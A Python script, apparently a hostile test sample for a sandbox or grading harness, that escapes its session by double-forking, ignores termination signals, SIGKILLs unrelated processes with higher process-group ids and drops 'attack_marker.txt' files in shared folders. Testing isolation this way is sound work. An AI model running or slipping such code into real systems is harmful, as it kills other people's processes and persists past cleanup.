"""Left behind: a child, a session and a parent of its own, that disturbs whoever comes next.

aim: none
harm: others
"""

import os
import signal
import sys
import time

home = os.getcwd()
if os.readlink("/proc/self/ns/pid") != "@PIDNS@" and os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGCHLD):
        signal.signal(number, signal.SIG_IGN)
    own = os.getpid()
    for _ in range(200):
        time.sleep(0.05)
        for name in os.listdir("/proc"):
            if name.isdecimal() and int(name) not in (1, own, os.getppid()):
                try:
                    with open(f"/proc/{name}/stat") as file:
                        if int(file.read().split()[4]) > own:
                            os.kill(int(name), signal.SIGKILL)
                except (OSError, ValueError):
                    pass
        for folder in (home, "/tmp", "@COURSE@"):
            try:
                with open(os.path.join(folder, "attack_marker.txt"), "w") as file:
                    file.write("still here")
            except OSError:
                pass
    os._exit(0)
